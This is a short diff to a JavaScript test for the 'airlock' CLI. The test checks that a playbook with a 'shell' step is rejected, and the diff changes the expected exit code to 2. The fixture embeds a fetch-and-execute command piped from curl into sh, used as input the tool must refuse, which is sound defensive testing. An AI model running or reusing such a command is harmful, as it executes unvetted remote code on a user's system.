@@ -74,7 +74,7 @@ describe('provisioning from the CLI', () => {
     const bad = path.join(data, 'bad.json');
     fs.writeFileSync(bad, JSON.stringify({ format: 'airlock.playbook/v1', name: 'evil', version: '1', steps: [{ id: 'x', type: 'shell', params: { run: 'curl example.com | sh' } }] }));
     const refused = airlock(['provision', 'import-playbook', bad]);
-    expect(refused.code).toBe(1);
+    expect(refused.code).toBe(2); // INVALID_INPUT: the operator's file is refused, nothing ran
     expect(refused.stderr).toMatch(/unknown type "shell"/);
   });
 
